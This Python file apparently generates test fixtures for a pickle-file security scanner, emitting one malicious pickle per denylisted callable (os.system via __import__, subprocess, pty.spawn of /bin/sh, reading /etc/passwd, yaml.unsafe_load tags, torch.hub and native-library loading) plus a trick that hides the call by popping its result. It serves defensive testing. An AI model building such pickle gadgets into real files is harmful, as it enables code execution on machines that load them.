"""One small pickle per denylisted callable (reference §4 items 9, 12, 14, 15, 17, 23 and the §6.4 denylist):
`module.name(*args)` with REDUCE, the import written as a pickler of that protocol would. Expected global:
the §6.3 normalisation of the spelled import (corpus.normalise)."""

import pickle_profiles
from corpus import normalise
from pickle_asm import CMD, EMPTY_DICT, call, text, wrap

STMT = f"__import__('os').system('{CMD}')"
URL = "https://example.invalid/stemma-test"

# (module, name, protocol, args as str constants, reference)
GADGETS = [
    ("timeit", "timeit", 4, [STMT], "item 9: timeit"),
    ("cProfile", "run", 4, [STMT], "item 9: profilers"),
    ("pdb", "run", 4, [STMT], "item 9: debuggers"),
    ("trace", "Trace.runctx", 4, [STMT], "item 9: trace (dotted name, protocol 4)"),
    ("code", "InteractiveInterpreter.runcode", 4, [STMT], "item 9: code.InteractiveInterpreter.runcode"),
    ("imaplib", "IMAP4_stream", 4, [CMD], "item 9: imaplib.IMAP4_stream runs a command"),
    ("uuid", "_get_command_stdout", 4, ["sh", "-c", CMD], "item 9: uuid"),
    ("_osx_support", "_read_output", 4, [CMD], "item 9: _osx_support"),
    ("_aix_support", "_read_cmd_output", 4, [CMD], "item 9: _aix_support"),
    ("_io", "FileIO", 4, ["/tmp/stemma-test", "w"], "item 9: _io.FileIO (alias -> io)"),
    ("logging", "FileHandler", 4, ["/tmp/stemma-test"], "item 9: logging.FileHandler"),
    ("torch.utils.collect_env", "run", 4, [CMD], "item 9: torch.utils.collect_env.run"),
    ("torch.jit.unsupported_tensor_ops", "execWrapper", 4, [STMT], "item 9: torch execWrapper"),
    ("torch._inductor.codecache", "compile_file", 4, ["/tmp/stemma-test.c"], "item 9: torch compile_file"),
    ("idlelib.pyshell", "ModifiedInterpreter.runcode", 4, [STMT], "item 9: idlelib"),
    ("distutils.file_util", "write_file", 4, ["/tmp/stemma-test"], "item 9: distutils.file_util"),
    ("shutil", "rmtree", 4, ["/tmp/stemma-test-nonexistent"], "picklescan/modelscan: shutil"),
    ("socket", "create_connection", 4, ["127.0.0.1"], "network: socket"),
    ("webbrowser", "open", 4, [URL], "modelscan HIGH: webbrowser"),
    ("ctypes", "CDLL", 4, ["libc.so.6"], "native code: ctypes"),
    ("pty", "spawn", 4, ["/bin/sh"], "item 15: pty"),
    ("_xxsubinterpreters", "run_string", 4, [STMT], "item 15: _xxsubinterpreters.run_string (GHSA-6ggj-6f2q-f7mx)"),
    ("_interpreters", "run_string", 4, [STMT], "item 15: _interpreters.run_string"),
    ("subprocess", "check_output", 4, ["id"], "subprocess"),
    ("sys", "exit", 4, ["stemma-test"], "§6.4: sys"),
    ("builtins", "__import__", 4, ["os"], "§6.4: builtins.__import__"),
    ("builtins", "compile", 4, [STMT, "<s>", "eval"], "builtins.compile"),
    ("builtins", "open", 4, ["/etc/passwd"], "builtins.open"),
    ("builtins", "setattr", 4, ["x", "y"], "§6.4: builtins.setattr"),
    ("builtins", "globals", 4, [], "§6.4: builtins.globals"),
    ("builtins", "breakpoint", 4, [], "builtins.breakpoint"),
    ("urllib2", "urlopen", 2, [URL], "item 14: urllib2 -> urllib.request (IMPORT_MAPPING)"),
    ("urllib", "urlretrieve", 2, [URL, "/tmp/stemma-test"], "item 14: urllib.urlretrieve (NAME_MAPPING)"),
    ("httplib", "HTTPConnection", 2, ["example.invalid"], "item 14: httplib -> http.client"),
    ("_pickle", "loads", 4, [], "alias _pickle -> pickle"),
    ("torch", "load", 4, ["/tmp/model.pt"], "item 17 / §6.4: torch.load (nested loader)"),
    ("torch.serialization", "load", 4, ["/tmp/model.pt"], "item 17: torch.serialization.load"),
    ("torch.hub", "load", 4, ["evil/repo", "model"], "§6.4: torch.hub"),
    ("numpy", "load", 4, ["/tmp/x.npy"], "item 17: numpy.load (nested loader)"),
    ("joblib", "load", 4, ["/tmp/x.joblib"], "item 17: joblib.load"),
    ("dill", "loads", 4, [], "item 17/23: dill.loads"),
    ("dill._dill", "_create_function", 4, [], "item 23: dill models"),
    ("keras.models", "load_model", 4, ["/tmp/x.keras"], "§6.3: keras.models.load_model"),
    ("numpy.testing._private.utils", "runstring", 4, [STMT], "fickling UnsafeImportsML: numpy runstring"),
    ("mlflow.projects.backend.local", "_run_entry_point", 4, [CMD], "item 12: mlflow entry point (HF malware)"),
    ("pandas.io.parsers.readers", "read_csv", 4, [URL], "item 12: pandas read_csv(url) exfiltration"),
    ("transformers.models.auto.auto_factory", "getattribute_from_module", 4, ["from_pretrained"],
     "item 12: indirect model loading"),
    ("zipimport", "zipimporter", 4, ["/tmp/evil.zip"], "§6.4: zipimport"),
    ("inspect", "getmembers", 4, ["os"], "§6.4: inspect"),
    ("gc", "get_objects", 4, [], "§6.4: gc"),
    ("operator", "methodcaller", 4, ["system", CMD], "picklescan: operator.methodcaller"),
    ("_operator", "attrgetter", 4, ["system"], "alias _operator -> operator, attrgetter"),
    ("types", "CodeType", 4, [], "picklescan: types.CodeType"),
    ("cloudpickle.cloudpickle", "_make_function", 4, [], "picklescan: cloudpickle"),
    ("requests.api", "get", 4, [URL], "picklescan/modelscan: requests.api"),
    ("aiohttp.client", "request", 4, ["GET", URL], "modelscan HIGH: aiohttp.client"),
    ("venv", "create", 4, ["/tmp/stemma-test-venv"], "picklescan: venv"),
    ("ensurepip", "_run_pip", 4, ["install"], "picklescan: ensurepip._run_pip"),
    ("pydoc", "pipepager", 4, ["x", CMD], "picklescan: pydoc.pipepager runs a command"),
]

# Issue 10: gadgets the import path as written hides; each is dangerous once the global is judged by the
# definition it resolves to (Tests/scan-corpus/resolution_table.py builds the table from the packages' sources)
# or by a denylist entry for what it does.
RESOLVED_GADGETS = [
    ("setuptools._distutils.spawn", "spawn", 4, [CMD], "setuptools' vendored distutils (distutils.spawn)"),
    ("_bootsubprocess", "check_output", 4, [CMD], "subprocess's bootstrap twin runs a command"),
    ("_pyio", "open", 4, ["/tmp/stemma-test", "w"], "io's pure-Python twin opens a file for writing"),
    ("gzip", "open", 4, ["/tmp/stemma-test", "wb"], "gzip.open writes a file"),
    ("pathlib", "PosixPath.write_text", 4, ["/tmp/stemma-test", CMD],
     "pathlib.PosixPath.write_text resolves to pathlib.Path.write_text"),
    ("xml.dom.minidom", "io.open", 4, ["/tmp/stemma-test", "w"], "minidom's `io` is io: io.open writes a file"),
    ("numpy.testing", "runstring", 4, [STMT], "numpy.testing re-exports _private.utils.runstring (exec)"),
    ("numpy.ma.core", "np.load", 4, ["/tmp/x.npy"], "numpy.ma.core's `np` is numpy: numpy.load"),
    ("numpy.lib._npyio_impl", "load", 4, ["/tmp/x.npy"], "numpy.load is defined in numpy.lib._npyio_impl"),
    ("numpy.ctypeslib", "load_library", 4, ["libc", "/tmp"], "numpy.ctypeslib loads a native library"),
    ("yaml", "unsafe_load", 4, ["!!python/object/apply:os.system ['id']"], "yaml.unsafe_load runs tags"),
    ("jsonpickle", "decode", 4, ['{"py/reduce": []}'], "jsonpickle.decode rebuilds arbitrary objects"),
    ("imp", "load_source", 4, ["m", "/tmp/evil.py"], "imp.load_source runs a Python file"),
    ("_winapi", "CreateProcess", 4, [CMD], "_winapi.CreateProcess starts a process"),
    ("urllib3", "request", 4, ["GET", URL], "urllib3 reaches the network"),
    ("torch.utils.cpp_extension", "load_inline", 4, ["m", "int x;"], "torch cpp_extension compiles and loads C++"),
    ("torch.fx.graph_module", "reduce_graph_module", 4, ["import os"], "torch.fx GraphModule exec()s its code"),
    ("torch.ops", "load_library", 4, ["/tmp/evil.so"], "torch.ops.load_library loads a native library"),
    ("torch.utils.model_zoo", "load_url", 4, [URL], "model_zoo.load_url is torch.hub.load_state_dict_from_url"),
    ("keras.src.saving.saving_api", "load_model", 4, ["/tmp/x.keras"],
     "Keras' internal load_model (keras.saving.load_model resolves to it)"),
]


def build(c):
    for module, name, protocol, args, why in GADGETS:
        body = call(module, name, [text(a, protocol) for a in args], protocol)
        blob = c.pickle(f"gadget {module}.{name}", wrap(body, protocol), ops=("REDUCE",))
        rel = f"pickle/gadgets/{module.replace('.', '_')}__{name.replace('.', '_')}_p{protocol}.pkl"
        c.add(rel, blob, "dangerous", why + " (§6.4 denylist)", normalise(module, name, protocol))
    for module, name, protocol, args, why in RESOLVED_GADGETS:
        body = call(module, name, [text(a, protocol) for a in args], protocol)
        blob = c.pickle(f"resolved gadget {module}.{name}", wrap(body, protocol), ops=("REDUCE",))
        rel = f"pickle/gadgets-resolved/{module.replace('.', '_')}__{name.replace('.', '_')}_p{protocol}.pkl"
        c.add(rel, blob, "dangerous", why + " (issue 10, rule 5)", normalise(module, name, protocol))
    pickle_profiles.build(c)
    # the call's result is POPped: the call must not vanish (item 16)
    body = call("os", "system", [text(CMD, 2)], 2) + b"0" + EMPTY_DICT
    c.add("pickle/call_result_popped_p2.pkl", c.pickle("popped", wrap(body, 2), ops=("REDUCE", "POP")),
          "dangerous", "the os.system result is POPped and a benign dict returned (item 16)", "os.system")
